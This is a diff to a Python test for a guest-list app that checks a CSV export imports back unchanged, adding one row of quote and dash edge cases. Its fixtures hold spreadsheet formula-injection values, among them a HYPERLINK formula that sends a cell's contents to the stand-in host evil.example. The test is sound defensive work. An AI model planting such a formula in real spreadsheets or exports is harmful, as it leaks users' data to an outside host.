@@ -338,7 +338,8 @@ def test_an_exported_list_imports_back_exactly_as_it_was(client, runtime):
     h = world.headers("admin")
     for i, (first, last, side, notes) in enumerate([
             ('=HYPERLINK("http://evil.example/?x="&A1,"Click")', "-Levi", "+1 side", "-minus"),
-            ("@evil", "Cohen", "@work", "=1+1"), ("'quoted", "O'Brien", "'side", "it's -fine")]):
+            ("@evil", "Cohen", "@work", "=1+1"), ("'quoted", "O'Brien", "'side", "it's -fine"),
+            ("Rina", "'-dash", "''=x", "'-x")]):
         assert client.post(_url(world), json={"first_name": first, "last_name": last, "side": side, "notes": notes,
                                                "party_size": 3, "children": 1, "phone": f"+97252123400{i}"},
                            headers=h).status_code == 201
@@ -353,7 +354,7 @@ def test_an_exported_list_imports_back_exactly_as_it_was(client, runtime):
     for kind, data in (("text/csv", exported), ("multipart/form-data", {"file": (io.BytesIO(exported), "g.csv")})):
         copy = client.post("/api/events", json={"name": "Copy"}, headers=h).get_json()["id"]
         r = client.post(f"/api/events/{copy}/guests/import", data=data, content_type=kind, headers=h)
-        assert (r.get_json()["created"], r.get_json()["rejected"]) == (4, 0), r.get_json()
+        assert (r.get_json()["created"], r.get_json()["rejected"]) == (5, 0), r.get_json()
         assert fields(copy) == fields(world.event_id), kind
 
 
